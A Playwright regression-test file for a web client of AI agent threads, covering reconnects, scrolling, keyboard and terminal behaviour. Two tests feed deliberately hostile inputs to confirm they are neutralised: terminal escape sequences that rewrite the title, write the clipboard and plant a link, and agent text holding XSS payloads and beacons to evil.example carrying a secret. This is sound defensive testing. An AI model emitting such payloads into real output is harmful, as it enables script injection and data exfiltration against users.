// Bugs that come back in every page of this kind, one by one: each must not be here. Most need a host that says what a
// real one says rarely, so its socket is played; the page, its files and its sign-in are real.
import { DESKTOP, PHONE, check, device, looksRight, pair, run, unharmed, watched } from "./page.mjs";

const [bug, link, thread] = process.argv.slice(2);

const info = (id, title) => ({ thread: id, agent: "demo", title, state: "idle", created_at_ms: 1, changed_at_ms: 1, last: "", queued: 0, background: 0, decisions: 0, archived: false });
const shown = (id, title) => ({ box_id: "b", name: "web", info: info(id, title), options: [], chosen: [], queue: [], held: false, tasks: [], can: { load: false, fork: false, steer: false, stop_task: false, images: false } });
const row = (seq, item) => ({ event: "row", seq, at_ms: seq, text_from: 0, cut: false, ...item });

/** Plays the host's socket: threads by id, each a list of rows. */
async function play(page, threads) {
  const played = { sockets: 0, current: null, subs: [], commands: [], silent: false, subOf: {} };
  await page.routeWebSocket(/\/ws$/, (ws) => {
    played.sockets += 1;
    played.current = ws;
    ws.onMessage((text) => {
      const frame = JSON.parse(text);
      if (played.silent && ws === played.deaf) return;
      if (frame.frame === "ping") return ws.send(JSON.stringify({ frame: "ping", now_ms: 1 }));
      if (frame.frame === "cmd") {
        played.commands.push(frame.command);
        return ws.send(JSON.stringify({ frame: "result", cid: frame.cid }));
      }
      if (frame.frame !== "sub") return undefined;
      played.subs.push(frame);
      if (frame.topic.topic !== "thread") return undefined;
      const id = frame.topic.thread;
      played.subOf[id] = frame.sub;
      const rows = threads[id] ?? [];
      const last = rows.at(-1);
      const to = { epoch: 1, seq: last?.seq ?? 0, bytes: last?.text?.length ?? 0 };
      const after = frame.topic.after;
      if (after) return undefined;
      return ws.send(JSON.stringify({ frame: "log", sub: frame.sub, start: "tail", from: { epoch: 1, seq: 0, bytes: 0 }, to, updates: rows, older: false, head: { shown: shown(id, `Thread ${id}`), open: [] } }));
    });
    ws.send(JSON.stringify({ frame: "hello", protocol: 1, build: "x", started_at_ms: 1, now_ms: 1 }));
  });
  return played;
}

const open = (page, id) => page.goto(new URL(`/t/${id}`, page.url()).href);

async function at(options) {
  const context = await device(options);
  const page = await watched(context);
  await pair(page, link);
  return page;
}

const composer = (page) => page.getByRole("textbox", { name: "Prompt" }).or(page.getByLabel("Prompt")).first();

const BUGS = {
  // A socket that looks open after sleep and is dead: found out when the page is seen again, and nothing is missed.
  async bug_02() {
    const page = await at(PHONE);
    const played = await play(page, { t: [row(1, { kind: "text", text: "Before sleep." })] });
    await open(page, "t");
    await page.getByText("Before sleep.").waitFor();
    const before = played.sockets;
    played.deaf = played.current;
    played.silent = true;
    await page.evaluate(() => document.dispatchEvent(new Event("visibilitychange")));
    for (const until = Date.now() + 60_000; played.sockets === before; ) {
      check(Date.now() < until, "the page kept a dead socket");
      await page.waitForTimeout(50);
    }
    await page.waitForFunction(() => true);
    for (const until = Date.now() + 60_000; !played.subs.some((sub) => sub.topic.after?.seq === 1); ) {
      check(Date.now() < until, "it did not go on from where it was");
      await page.waitForTimeout(50);
    }
    played.current.send(JSON.stringify({ frame: "log", sub: played.subOf.t, start: "cursor", from: { epoch: 1, seq: 1, bytes: 13 }, to: { epoch: 1, seq: 2, bytes: 12 }, updates: [row(2, { kind: "text", text: "After sleep." })], older: false }));
    await page.getByText("After sleep.").waitFor();
    check((await page.getByText("Before sleep.").count()) === 1, "what was there is shown twice or not at all");
  },

  // A reader who scrolled up stays there while text comes, and the end is one tap away.
  async bug_03() {
    const page = await at(PHONE);
    const rows = Array.from({ length: 60 }, (_, index) => row(index + 1, { kind: "text", text: `Paragraph ${index + 1}. ${"Words that fill more than a line of a phone. ".repeat(3)}` }));
    const played = await play(page, { t: rows });
    await open(page, "t");
    await page.getByText("Paragraph 60.").waitFor();
    const log = page.getByRole("log");
    await log.hover();
    await page.mouse.wheel(0, -1_200);
    await page.getByRole("button", { name: /new|To the end/ }).waitFor();
    const read = await log.evaluate((list) => list.scrollTop);
    for (let seq = 61; seq < 66; seq += 1) {
      const from = { epoch: 1, seq: seq - 1, bytes: seq === 61 ? rows.at(-1).text.length : 5 };
      played.current.send(JSON.stringify({ frame: "log", sub: played.subOf.t, start: "cursor", from, to: { epoch: 1, seq, bytes: 5 }, updates: [row(seq, { kind: "text", text: `Later` })], older: false }));
    }
    await page.waitForFunction(() => document.querySelector("[role=log]").textContent.length > 0);
    await page.evaluate(() => new Promise((drawn) => requestAnimationFrame(() => requestAnimationFrame(drawn))));
    const after = await log.evaluate((list) => list.scrollTop);
    check(Math.abs(after - read) < 200, `the reader was moved from ${read} to ${after}`);
    await page.getByRole("button", { name: /new|To the end/ }).click();
    await page.getByText("Later").last().waitFor();
  },

  // Enter of a phone's keyboard is a new line; nothing is sent but by the button.
  async bug_04() {
    const page = await at(PHONE);
    const played = await play(page, { t: [row(1, { kind: "text", text: "Hello." })] });
    await open(page, "t");
    await composer(page).fill("first");
    await composer(page).press("Enter");
    await composer(page).pressSequentially("second");
    check((await composer(page).inputValue()) === "first\nsecond", `it is ${JSON.stringify(await composer(page).inputValue())}`);
    check(played.commands.length === 0, "it was sent");
    await page.getByRole("button", { name: "Send" }).click();
    await page.waitForFunction(() => true);
    for (const until = Date.now() + 60_000; played.commands.length === 0; ) {
      check(Date.now() < until, "the button sends nothing");
      await page.waitForTimeout(50);
    }
  },

  // Enter that chooses a word of an input method sends nothing.
  async bug_05() {
    const page = await at(DESKTOP);
    const played = await play(page, { t: [row(1, { kind: "text", text: "Hello." })] });
    await open(page, "t");
    await composer(page).fill("にほん");
    for (const how of [{ isComposing: true, keyCode: 13 }, { isComposing: false, keyCode: 229 }]) {
      await composer(page).evaluate((field, given) => field.dispatchEvent(new KeyboardEvent("keydown", { key: "Enter", bubbles: true, cancelable: true, ...given })), how);
    }
    check(played.commands.length === 0 && (await composer(page).inputValue()) === "にほん", "it was sent");
    await composer(page).press("Enter");
    for (const until = Date.now() + 60_000; played.commands.length === 0; ) {
      check(Date.now() < until, "Enter sends nothing on a desktop");
      await page.waitForTimeout(50);
    }
  },

  // A keyboard that takes half of the screen leaves the composer in sight, and no field makes the page zoom.
  async bug_06() {
    const page = await at(PHONE);
    await play(page, { t: Array.from({ length: 40 }, (_, index) => row(index + 1, { kind: "text", text: `Line ${index}` })) });
    await open(page, "t");
    await composer(page).focus();
    await page.setViewportSize({ width: 390, height: 440 });
    await page.evaluate(() => new Promise((drawn) => requestAnimationFrame(() => requestAnimationFrame(drawn))));
    const found = await composer(page).evaluate((field) => ({ box: field.getBoundingClientRect().toJSON(), size: getComputedStyle(field).fontSize, high: innerHeight }));
    check(found.box.bottom <= found.high && found.box.top >= 0, `the composer is at ${JSON.stringify(found)}`);
    check(Number.parseFloat(found.size) >= 16, `a phone zooms into ${found.size}`);
    const viewport = await page.locator("meta[name=viewport]").getAttribute("content");
    check(/interactive-widget=resizes-content/.test(viewport), viewport);
  },

  // A file of an older build is gone: never HTML in its place, and the page is loaded anew once, with what was typed.
  async bug_07() {
    const page = await at(DESKTOP);
    const gone = await page.evaluate(async () => {
      const answer = await fetch("/assets/index-gone.js");
      return { status: answer.status, type: answer.headers.get("content-type"), kept: answer.headers.get("cache-control") };
    });
    check(gone.status === 404 && !/html/.test(gone.type) && gone.kept === "no-store", JSON.stringify(gone));
    const html = await page.evaluate(async () => (await fetch("/")).headers.get("cache-control"));
    check(html === "no-cache", `the frame is kept: ${html}`);
    await play(page, { t: [row(1, { kind: "text", text: "Hello." })] });
    await open(page, "t");
    await composer(page).fill("half a thought");
    await page.evaluate(() => {
      globalThis.__before = true;
      dispatchEvent(new Event("vite:preloadError", { cancelable: true }));
    });
    await page.waitForFunction(() => globalThis.__before === undefined);
    await composer(page).waitFor();
    check((await composer(page).inputValue()) === "half a thought", "the draft is gone");
    await page.evaluate(() => {
      globalThis.__again = true;
      dispatchEvent(new Event("vite:preloadError", { cancelable: true }));
    });
    check(await page.evaluate(() => globalThis.__again), "it is loaded again and again");
  },

  // What belongs to another thread, or came twice, is not shown.
  async bug_09() {
    const page = await at(DESKTOP);
    const played = await play(page, { one: [row(1, { kind: "text", text: "Of the first." })], two: [row(1, { kind: "text", text: "Of the second." })] });
    await open(page, "one");
    await page.getByText("Of the first.").waitFor();
    const old = played.subOf.one;
    await page.evaluate(() => {
      history.pushState({}, "", "/t/two");
      dispatchEvent(new PopStateEvent("popstate"));
    });
    await page.getByText("Of the second.").waitFor();
    const late = (sub, from, text) => played.current.send(JSON.stringify({ frame: "log", sub, start: "cursor", from, to: { epoch: 1, seq: 2, bytes: text.length }, updates: [row(2, { kind: "text", text })], older: false }));
    late(old, { epoch: 1, seq: 1, bytes: 13 }, "A late word of the first.");
    late(played.subOf.two, { epoch: 1, seq: 1, bytes: 14 }, "A new word of the second.");
    await page.getByText("A new word of the second.").waitFor();
    check((await page.getByText("A late word of the first.").count()) === 0, "a word of another thread is shown");
    check((await page.getByText("Of the second.", { exact: true }).count()) === 1, "a row is shown twice");
  },

  // A terminal by touch: a line of its own, the keys a phone lacks, text that can be selected; and nothing a program
  // prints reaches past the screen.
  async bug_10() {
    const page = await at(PHONE);
    await page.goto(new URL("/b/web/terminal", page.url()).href);
    await page.waitForSelector("[data-terminal=open]", { state: "attached" });
    const line = page.getByLabel("Line to run");
    const shows = (text) => page.waitForFunction((wanted) => document.querySelector(".xterm-rows")?.textContent.includes(wanted), text);
    await line.fill("echo from-a-$((40+2))");
    await page.getByRole("button", { name: "Run" }).click();
    await shows("from-a-42");
    const title = await page.title();
    await line.fill("printf '\\033]0;owned\\007\\033]52;c;b3duZWQ=\\007\\033]8;;http://evil.example/\\007click\\033]8;;\\007\\033[38;2;9;8;7mcolour\\033[0m tamed-%s\\n' yes");
    await page.getByRole("button", { name: "Run" }).click();
    await shows("tamed-yes");
    check((await page.title()) === title, `the title became ${await page.title()}`);
    check((await page.locator(".xterm-rows a").count()) === 0, "a link was made");
    await line.fill("cat");
    await page.getByRole("button", { name: "Run" }).click();
    await page.getByRole("button", { name: "Control C" }).click();
    // What is typed before the shell is back is dropped with what it interrupted.
    await page.waitForFunction(() => /\^C.*\$/s.test(document.querySelector(".xterm-rows")?.textContent ?? ""));
    await line.fill("echo still-$((1+1))");
    await page.getByRole("button", { name: "Run" }).click();
    await shows("still-2");
    await looksRight(page, "terminal");
    await unharmed(page);
    await page.goto(new URL("/usage", page.url()).href);
    await page.waitForSelector("[data-screen=usage][data-loaded=true]");
    await page.getByText("Memory").first().waitFor();
    await looksRight(page, "usage");
  },

  // Text of an agent is text: no script, no picture of another machine, no form, nothing that is fetched.
  async bug_11() {
    const page = await at(PHONE);
    const asked = [];
    page.on("request", (request) => {
      if (new URL(request.url()).host !== new URL(page.url()).host) asked.push(request.url());
    });
    const evil = [
      "![beacon](http://evil.example/beacon.png?secret=1)",
      "<img src=http://evil.example/x onerror='window.__owned=1'>",
      "<script>window.__owned=2</script>",
      "<form action=http://evil.example/><input name=a></form><style>body{background:url(http://evil.example/s)}</style>",
      "[click](javascript:window.__owned=3) [data](data:text/html,<script>window.__owned=4</script>)",
      "<iframe src=http://evil.example/></iframe>",
    ];
    const rows = evil.map((text, index) => row(index + 1, { kind: "text", text }));
    rows.push(row(20, { kind: "tool_call", call: "c", title: evil[1], tool: "execute", status: "failed", content: evil.map((text) => ({ type: "text", text })) }));
    rows.push(row(21, { kind: "command", command: evil[2], output: evil.join("\n"), exit: 0 }));
    rows.push(row(22, { kind: "text", text: "The end of it." }));
    await play(page, { t: rows });
    await open(page, "t");
    await page.getByText("The end of it.").waitFor();
    const made = await page.getByRole("log").evaluate((log) => log.querySelectorAll("img, script, form, iframe, style, a[href^='javascript:'], a[href^='data:']").length);
    check(made === 0, `${made} elements of a text`);
    check(asked.length === 0, `it was asked for ${asked.join(" ")}`);
    await unharmed(page);
  },

  // Every screen on a phone: nothing is wider than it, everything is in reach of a thumb.
  async bug_13() {
    const page = await at(PHONE);
    for (const [path, screen] of [
      ["/", "home"],
      ["/boxes", "boxes"],
      ["/new", "new"],
      ["/search", "search"],
      ["/settings", "settings"],
      ["/trash", "trash"],
      ["/usage", "usage"],
    ]) {
      await page.goto(new URL(path, page.url()).href);
      await page.waitForSelector(`[data-screen=${screen}]`);
      await looksRight(page, `bug-13-${screen}`);
    }
    await unharmed(page);
  },

  // Without any account there is a page, an agent that works, and no gate.
  async bug_14() {
    const page = await at(PHONE);
    await page.goto(new URL("/new", page.url()).href);
    await page.getByText("Demo", { exact: false }).first().waitFor();
    await page.getByLabel("Prompt").fill("show me");
    check(await page.getByRole("button", { name: "Begin" }).isEnabled(), "nothing can be begun");
    await unharmed(page);
  },

  // A thread as a document: no script, the same words, and only in the browser that asked for it.
  async plain() {
    const page = await at(PHONE);
    const path = `/plain/${thread}`;
    await page.goto(new URL(path, page.url()).href);
    await page.getByText("Not open here").waitFor();
    await page.goto(new URL("/", page.url()).href);
    const allowed = await page.evaluate(async (id) => (await fetch(`/api/threads/${id}/plain`, { method: "POST", headers: { "x-box-proof": localStorage.getItem("boxes:proof") } })).status, thread);
    check(allowed === 204, `it was answered ${allowed}`);
    await page.goto(new URL(path, page.url()).href);
    await page.getByRole("heading", { name: "You" }).first().waitFor();
    check((await page.locator("script").count()) === 0, "there is a script");
    await page.getByText("Waits for you").first().waitFor();
    await unharmed(page);
  },
};

await run(BUGS[bug]);
